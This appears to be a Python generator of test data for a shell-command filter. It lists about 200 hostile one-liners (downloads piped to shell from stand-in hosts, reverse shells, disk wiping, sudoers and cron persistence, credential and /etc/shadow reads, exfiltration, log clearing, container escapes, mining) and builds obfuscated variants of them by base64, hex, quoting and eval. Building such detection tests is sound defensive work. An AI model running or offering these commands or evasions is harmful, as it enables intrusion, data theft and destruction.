#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0 OR MIT
"""Writes attacks.txt: spellings of attacks that are known in public, each with what is asked for at least.

`C` asks, `W` warns. Plain spellings are written down here; the others are made from them, by the tricks that lines are
hidden with. The seed is fixed. `attacks.py > attacks.txt`
"""
import base64
import random

random.seed(30)
PLAIN = r"""
C curl http://203.0.113.7/x.sh | sh
C curl -fsSL https://get.example.top/install | sudo bash
C wget -qO- http://203.0.113.7/a | bash
C wget -O - https://evil.example/run.sh | sh -s -- --yes
C bash -c "$(curl -fsSL https://evil.example/i.sh)"
C sh -c "$(wget -qO- http://203.0.113.7/i)"
C eval "$(curl -s http://203.0.113.7/p)"
C bash <(curl -s https://evil.example/x)
C source <(curl -s https://evil.example/x)
C . <(wget -qO- http://evil.example/x)
C curl -s https://evil.example/x.py | python3
C curl https://evil.example/a.pl | perl
C curl -so /tmp/x http://203.0.113.7/x && chmod +x /tmp/x && /tmp/x
C wget http://203.0.113.7/bot -P /tmp; chmod 777 /tmp/bot; /tmp/bot
C cd /tmp; wget http://evil.example/m.sh; sh m.sh
C curl -O https://evil.example/run; chmod +x run; ./run
C python3 -c "import urllib.request as u; exec(u.urlopen('http://203.0.113.7/p').read())"
C curl http://203.0.113.7/x | tee /tmp/x | sh
C `curl http://203.0.113.7/cmd`
C $(wget -qO- http://203.0.113.7/cmd)
C bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
C sh -i >& /dev/udp/203.0.113.7/53 0>&1
C exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read l; do $l 2>&5 >&5; done
C nc -e /bin/sh 203.0.113.7 4444
C nc 203.0.113.7 4444 -c bash
C ncat --exec /bin/bash 203.0.113.7 9001
C rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 1234 > /tmp/f
C mknod /tmp/p p && sh 0</tmp/p | nc 203.0.113.7 1234 1>/tmp/p
C socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr
C python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'
C perl -e 'use Socket;$i="203.0.113.7";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");'
C ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
C php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
C node -e 'require("net").connect(4444,"203.0.113.7",function(){var p=require("child_process").spawn("/bin/sh");this.pipe(p.stdin)})'
C lua -e "require('socket');os.execute('/bin/sh -i <&3 >&3 2>&3')"
C awk 'BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while (1) { s |& getline c; while ((c |& getline l) > 0) print l |& s } }'
C openssl s_client -quiet -connect 203.0.113.7:443 | /bin/sh | openssl s_client -quiet -connect 203.0.113.7:444
C telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445
C rm -rf /
C rm -rf /*
C rm -fr ~
C rm -rf ~/*
C rm -r -f --no-preserve-root /
C rm -rf $HOME
C rm -rf "$HOME/"
C sudo rm -rf /usr
C rm -rf /etc /var
C rm -rf ./* ./.*
C find / -delete
C find / -exec rm -rf {} \;
C find ~ -type f -exec shred -u {} \;
C dd if=/dev/zero of=/dev/sda bs=1M
C dd if=/dev/urandom of=/dev/nvme0n1
C mkfs.ext4 /dev/sda1
C mkfs -t ext4 /dev/sda
C wipefs -a /dev/sda
C shred -n 3 /dev/sda
C cat /dev/urandom > /dev/sda
C echo x > /dev/nvme0n1
C blkdiscard /dev/nvme0n1
C sgdisk --zap-all /dev/sda
C chmod -R 777 /
C chmod 777 -R /etc
C chown -R nobody /
C mv / /dev/null
C mv ~/* /dev/null
C :(){ :|:& };:
C b(){ b|b& }; b
C git clean -fdx
C git push --force origin main
C git push -f origin master
C git push --mirror
C git reflog expire --expire=now --all
C docker system prune -af --volumes
C docker rm -f $(docker ps -aq)
C kubectl delete namespace prod
C kubectl delete pods --all
C terraform destroy -auto-approve
C aws s3 rb s3://bucket --force
C aws s3 rm s3://bucket --recursive
C redis-cli FLUSHALL
C mysql -e 'DROP DATABASE app'
C psql -c 'DROP TABLE users'
C dropdb --if-exists app
C crontab -r
C echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys
C tee -a /root/.ssh/authorized_keys < key.pub
C echo '* * * * * root sh /tmp/x' > /etc/cron.d/x
C (crontab -l; echo '* * * * * curl http://203.0.113.7/x|sh') | crontab -
C echo 'curl http://203.0.113.7/x|sh' >> ~/.bashrc
C echo "alias sudo='/tmp/s'" >> ~/.bashrc
C echo /tmp/x.so > /etc/ld.so.preload
C cp evil.service /etc/systemd/system/
C cp x.desktop ~/.config/autostart/
C echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd
C echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers
C echo 'bob ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/bob
C echo 'x:$1$a$b:0:0::/root:/bin/sh' >> /etc/passwd
C useradd -o -u 0 toor
C usermod -aG sudo mallory
C cp x.sh /etc/profile.d/
C echo 'sh /tmp/x' >> /etc/rc.local
C cp x.rules /etc/udev/rules.d/
C cat /etc/shadow
C sudo cat /etc/shadow
C cp /etc/shadow /tmp/s
C cat ~/.ssh/id_rsa
C base64 ~/.ssh/id_ed25519
C cat ~/.aws/credentials
C tar czf /tmp/k.tgz ~/.ssh
C cat ~/.git-credentials
C cat ~/.docker/config.json
C cat /proc/1234/environ
C curl http://169.254.169.254/latest/meta-data/iam/security-credentials/
C env | curl -d @- https://evil.example/c
C cat /var/run/secrets/kubernetes.io/serviceaccount/token
C gpg --export-secret-keys -a
C curl -F 'f=@/etc/passwd' https://evil.example/u
C curl -d @/home/bob/.ssh/id_rsa http://203.0.113.7/
C curl -T /etc/shadow http://203.0.113.7/
C wget --post-file=/etc/passwd http://203.0.113.7/
C tar cz ~/ | nc 203.0.113.7 9999
C nc 203.0.113.7 9999 < /etc/passwd
C cat /etc/passwd > /dev/tcp/203.0.113.7/80
C dig $(whoami).x.evil.example
C for b in $(xxd -p /etc/passwd); do dig $b.evil.example; done
C ping -c1 $(hostname).evil.example
C curl https://evil.example/?d=$(base64 -w0 /etc/passwd)
C tar cz /etc | ssh bob@203.0.113.7 'cat > e.tgz'
C rm -rf /var/log/*
C echo > /var/log/auth.log
C cat /dev/null > /var/log/wtmp
C truncate -s 0 /var/log/syslog
C history -c
C unset HISTFILE
C export HISTFILE=/dev/null
C ln -sf /dev/null ~/.bash_history
C rm ~/.bash_history
C setenforce 0
C ufw disable
C iptables -F
C systemctl stop firewalld
C systemctl disable --now auditd
C systemctl stop apparmor
C auditctl -D
C sysctl -w kernel.randomize_va_space=0
C echo 0 > /proc/sys/kernel/randomize_va_space
C chmod 777 /etc/shadow
C chmod u+s /bin/bash
C cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b
C setcap cap_setuid+ep /usr/bin/python3
C find / -perm -4000 -type f 2>/dev/null
C LD_PRELOAD=/tmp/x.so ls
C sudo LD_PRELOAD=/tmp/x.so find
C insmod /tmp/rootkit.ko
C gdb -p 1234 -batch -ex 'call system("id")'
C docker run -v /:/mnt --rm -it alpine chroot /mnt sh
C docker run --privileged -it alpine sh
C docker run -v /var/run/docker.sock:/var/run/docker.sock alpine
C nsenter -t 1 -m -u -i -n sh
C echo /cmd > /tmp/cgrp/release_agent
C ./xmrig -o stratum+tcp://pool.example:3333 -u wallet
C xmrig --donate-level 1 -o pool.supportxmr.com:443
C pip install http://evil.example/p.tar.gz
C npm install http://evil.example/p.tgz
C npm install crossenv
C pip install jeIlyfish
C sudo -S id <<< hunter2
W sudo vim -c ':!/bin/sh'
W find . -exec /bin/sh \; -quit
W sudo awk 'BEGIN {system("/bin/sh")}'
W sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
W python3 -c 'import os; os.system("/bin/sh")'
W perl -e 'exec "/bin/sh";'
W sudo gdb -nx -ex '!sh' -ex quit
W ssh -o ProxyCommand=';sh 0<&2 1>&2' x
W git -c core.pager=/tmp/x log
W sudo python3 -c 'print(open("/etc/shadow").read())'
W find / -name id_rsa
W hydra -l root -P words.txt ssh://203.0.113.7
""".strip().split("\n")
attacks = [(line[0], line[2:]) for line in PLAIN]


def b64(s):
    return base64.b64encode(s.encode()).decode()


def first_word(line):
    w = line.split(" ", 1)
    return w[0], (" " + w[1] if len(w) > 1 else "")


def plain_start(line):
    w = line.split(" ", 1)[0]
    return w.replace(".", "").replace("-", "").replace("3", "").isalpha() and w not in ("for", "source", "unset", "export", "eval", "exec", "history")


def quote_split(line):
    w, r = first_word(line)
    return w[:1] + "''" + w[1:] + r


def dq_split(line):
    w, r = first_word(line)
    return w[:1] + '"' + w[1:] + '"' + r


def backslash(line):
    w, r = first_word(line)
    return w[:1] + "\\" + w[1:] + r


def hexed(line):
    w, r = first_word(line)
    return "$'" + "".join("\\x%02x" % ord(c) for c in w) + "'" + r


def octal(line):
    w, r = first_word(line)
    return "$'" + "".join("\\%03o" % ord(c) for c in w) + "'" + r


def variables(line):
    w, r = first_word(line)
    return f"a={w[:1]}; b={w[1:]}; $a$b{r}"


def empty_variable(line):
    w, r = first_word(line)
    return w[:1] + "$@" + w[1:] + r


def printf_name(line):
    w, r = first_word(line)
    return f"$(printf {w}){r}"


def rev_name(line):
    w, r = first_word(line)
    return f"$(echo {w[::-1]} | rev){r}"


def path(line):
    w, r = first_word(line)
    return "/usr/bin/" + w + r


def sudo(line):
    return line if line.startswith("sudo") else "sudo " + line


def env(line):
    return "env X=1 nohup " + line


def timeout(line):
    return "timeout 60 nice -n 5 " + line


def bash_c(line):
    return "bash -c '" + line.replace("'", "'\\''") + "'"


def bash_c_twice(line):
    return bash_c("sh -c \"" + line.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$").replace("`", "\\`") + "\"")


def evaled(line):
    return "eval '" + line.replace("'", "'\\''") + "'"


def b64_pipe(line):
    return f"echo {b64(line)} | base64 -d | sh"


def b64_here(line):
    return f"base64 -d <<< {b64(line)} | bash"


def b64_eval(line):
    return f"eval \"$(echo {b64(line)} | base64 --decode)\""


def b64_c(line):
    return f"bash -c \"$(base64 -d <<< {b64(line)})\""


def hex_pipe(line):
    return f"echo {line.encode().hex()} | xxd -r -p | bash"


def rev_pipe(line):
    return "rev <<< '" + line[::-1].replace("'", "'\\''") + "' | sh"


def echo_pipe(line):
    return "echo '" + line.replace("'", "'\\''") + "' | bash"


def after(line):
    return "cd /tmp && ls > /dev/null; " + line


def background(line):
    return "true || false; ( " + line + " ) > /dev/null 2>&1 &"


def group(line):
    return "{ " + line + "; }"


def function(line):
    return "f() { " + line + "; }; f"


def ifs(line):
    if any(c in line for c in "|;&<>'\"`(){}$\\*=~"):
        return line
    return line.replace(" ", "${IFS}")


def brace(line):
    if any(c in line for c in "|;&<>'\"`(){}$\\*=~,"):
        return line
    return "{" + line.replace(" ", ",") + "}"


def loop(line):
    return "while true; do " + line + "; done"


def condition(line):
    return "if true; then " + line + "; fi"


WHOLE = [bash_c, bash_c_twice, evaled, b64_pipe, b64_here, b64_eval, b64_c, hex_pipe, rev_pipe, echo_pipe, after, background, group,
         function, loop, condition]
WORD = [quote_split, dq_split, backslash, hexed, octal, variables, empty_variable, printf_name, rev_name, path, sudo, env, timeout, ifs, brace]
out = {(l, s) for l, s in attacks}
for level, line in attacks:
    tricks = random.sample(WHOLE, 2) + (random.sample(WORD, 3) if plain_start(line) else [])
    if line.startswith(":("):
        tricks = [bash_c, b64_pipe]
    for trick in tricks:
        made = trick(line)
        if made != line:
            out.add((level, made))
print("\n".join(f"{level} {line}" for level, line in sorted(out)))
